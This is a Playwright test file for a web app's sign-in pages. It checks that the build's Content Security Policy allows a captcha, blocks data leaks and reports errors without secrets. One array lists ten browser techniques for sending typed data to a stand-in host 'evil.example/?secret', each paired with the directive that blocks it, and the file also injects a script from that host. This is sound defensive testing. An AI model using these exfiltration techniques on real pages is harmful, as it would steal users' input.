import { execFileSync } from 'node:child_process';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Page, Request } from '@playwright/test';
import { captchaScript } from '#api/offline/stand-in-scripts.ts';
import { test as base, expect, message, signIn } from './fixtures.ts';
import { enterPin, heading, recoverUsername, sendPin, untilIdle } from './steps.ts';
import { startTestServer } from './test-server.ts';

// A build that names its hosts and a URL for reports (docs/deploying.md). One worker makes it.

const test = base.extend<object, { readonly build: string }>({
  build: [
    // biome-ignore lint/correctness/noEmptyPattern: Playwright demands a pattern.
    async ({}, use) => {
      const folder = mkdtempSync(join(tmpdir(), 'settings-'));
      const dist = join(folder, 'dist');
      const options = ['build', '--outDir', dist, '--emptyOutDir', '--logLevel', 'error'];
      const env = {
        ...process.env,
        VITE_ERROR_REPORTS: 'https://reports.example.com/sign-in',
        VITE_HANDOFF_HOSTS: 'console.example',
        VITE_LOGO_HOSTS: 'logos.example.com',
        VITE_SCRIPT_HOSTS: 'www.google.com/recaptcha/, www.gstatic.com/recaptcha/, risk.example.com',
      };
      execFileSync(process.execPath, ['node_modules/vite/bin/vite.js', ...options], { env });
      await use(dist);
      rmSync(folder, { recursive: true });
    },
    { scope: 'worker', timeout: 180_000 },
  ],
  server: async ({ build }, use) => {
    const server = await startTestServer({ dist: build });
    await use(server);
    await server.close();
  },
});

test.describe.configure({ mode: 'default' });

test.beforeEach(async ({ page }) => {
  await page.route('https://reports.example.com/**', (route) => route.fulfill({ status: 204 }));
});

/**
 * Like Google's first captcha script, this one defines the captcha's object without its functions, and loads a second
 * script by a URL that is a plain string.
 */
const captchaLoader = `(function () {
  window.grecaptcha = { ready: function () {} };
  var script = document.createElement('script');
  script.src = 'https://www.gstatic.com/recaptcha/releases/1/recaptcha__en.js' + new URL(document.currentScript.src).search;
  var first = document.getElementsByTagName('script')[0];
  first.parentNode.insertBefore(script, first);
})();`;

/** Like Google's second captcha script, this one creates its own Trusted Types policy. */
const captchaWidget = `window.trustedTypes && trustedTypes.createPolicy('goog#html', { createHTML: String });\n${captchaScript}`;

test('the policy of the build allows a captcha that loads a second script', async ({ page, server }) => {
  const script = (body: string) => ({ contentType: 'text/javascript', body });
  await page.route('https://www.google.com/recaptcha/**', (route) => route.fulfill(script(captchaLoader)));
  await page.route('https://www.gstatic.com/recaptcha/**', (route) => route.fulfill(script(captchaWidget)));
  await page.goto('/Loginapp/forgot-username');
  await recoverUsername(page);
  await enterPin(page, await sendPin(page, server));
  await expect(message(page, 'LOGIN_USERNAME_RETRIEVED')).toBeVisible();
});

/** Adds an element to the page. */
const add = ({ tag = '', ...attributes }: Readonly<Record<string, string>>) => {
  document.body.append(Object.assign(document.createElement(tag), attributes));
};
const evil = 'https://evil.example/?secret';

/** Ways to send what a merchant types to another host, each with the directive that blocks it. */
const leaks: readonly (readonly [directive: string, run: (page: Page) => Promise<unknown>])[] = [
  ['img-src', (page) => page.evaluate(add, { tag: 'img', src: evil })],
  ['img-src', (page) => page.evaluate(add, { tag: 'p', style: `background: url(${evil})` })],
  ['connect-src', (page) => page.evaluate((url) => fetch(url), evil)],
  ['connect-src', (page) => page.evaluate((url) => navigator.sendBeacon(url), evil)],
  ['connect-src', (page) => page.evaluate((url) => new WebSocket(url.replace('https', 'wss')).url, evil)],
  ['connect-src', (page) => page.evaluate((url) => new EventSource(url).url, evil)],
  ['frame-src', (page) => page.evaluate(add, { tag: 'iframe', src: evil })],
  ['media-src', (page) => page.evaluate(add, { tag: 'video', src: evil })],
  ['font-src', (page) => page.evaluate((url) => new FontFace('x', `url(${url})`).load(), evil)],
  ['style-src-elem', (page) => page.evaluate(add, { tag: 'link', rel: 'stylesheet', href: evil })],
];

test.describe('the policy of the build blocks', () => {
  test.use({ provoked: /violat|Trusted|blocked|net::ERR|Mixed Content|must begin with https/i });

  test('every other host', async ({ page, server }) => {
    const requested: string[] = [];
    await page.route(/evil\.example/, (route) => {
      requested.push(route.request().url());
      return route.abort();
    });
    await page.addInitScript(() => {
      const seen: string[] = [];
      addEventListener('securitypolicyviolation', ({ effectiveDirective }) => seen.push(effectiveDirective));
      Object.assign(window, { violations: seen });
    });
    const violations = () => page.evaluate(() => (window as unknown as { violations: string[] }).violations);
    await page.goto('/');
    await expect(heading(page)).toBeVisible();
    for (const [directive, run] of leaks) {
      const before = (await violations()).length;
      await run(page).catch(() => undefined);
      await expect.poll(async () => (await violations()).slice(before)).toContain(directive);
    }
    await expect(page.evaluate(add, { tag: 'script', src: evil })).rejects.toThrow(
      /TrustedScript|must begin/,
    );
    expect(requested).toEqual([]);
    expect(page.url()).toBe(`${server.url}/`);
  });
});

const isReport = (request: Request) => request.url() === 'https://reports.example.com/sign-in';
const bodyOf = (request: Request): Record<string, unknown> => JSON.parse(request.postData() ?? '');

test.describe('the reports of the build', () => {
  test.use({ provoked: /night|violat/i });

  test('have errors at once, calls and timings later, and no secret', async ({ page }) => {
    const needed = [/\/start-reports-/, /appinitload/, /themes/].map((url) => page.waitForResponse(url));
    const reported: Request[] = [];
    page.on('request', (request) => isReport(request) && reported.push(request));
    await page.goto('/?cobrand=harbor&sp=secret-entry');
    for (const response of await Promise.all(needed)) await response.finished();
    await untilIdle(page);
    await page.evaluate(add, { tag: 'video', src: 'https://evil.example/v?secret' });
    await page.evaluate(() => reportError(new RangeError('secret-error of the night')));
    const bodies = () => reported.map(bodyOf);
    const violation = { kind: 'violation', directive: 'media-src', blocked: 'https://evil.example/v' };
    const error = { kind: 'error', name: 'RangeError' };
    await expect
      .poll(bodies)
      .toEqual(expect.arrayContaining([expect.objectContaining(violation), expect.objectContaining(error)]));
    await signIn(page, 'merchant', 'wrong-secret');
    await expect(message(page, 'LOGIN_UNAUTHORIZED_ERROR')).toBeVisible();
    await page.evaluate(() => window.dispatchEvent(new Event('pagehide')));
    await expect.poll(() => reported.length).toBe(4);
    const outcomes = ['appInit', 'theme', 'login'].map((call) =>
      expect.objectContaining({ call, outcome: call === 'login' ? 401 : 'ok' }),
    );
    const calls = expect.arrayContaining(outcomes);
    expect(bodies()).toContainEqual(expect.objectContaining({ kind: 'calls', brand: 'harbor', calls }));
    const timings = { formLive: expect.any(Number) };
    expect(bodies()).toContainEqual(expect.objectContaining({ kind: 'timings', timings }));
    expect(JSON.stringify(bodies())).not.toMatch(/merchant|secret/);
  });

  test('include a core that fails to load', async ({ page }) => {
    await page.route(/\/assets\/core-/, (route) => route.abort());
    const reported = page.waitForRequest(isReport);
    await page.goto('/Login/contact?cobrand=harbor');
    expect(bodyOf(await reported)).toEqual({
      kind: 'error',
      name: 'PageLoadError',
      frames: [],
      path: '/contact',
      reference: await page.evaluate(() => window.visitReference),
      build: await page.locator('html').getAttribute('data-build'),
      time: expect.any(String),
      locale: 'en-US',
      brand: 'harbor',
    });
    await expect(message(page, 'APP_FAILURE')).toBeVisible();
    await expect(page.locator('[data-reference]')).toHaveText(String(bodyOf(await reported).reference));
  });
});
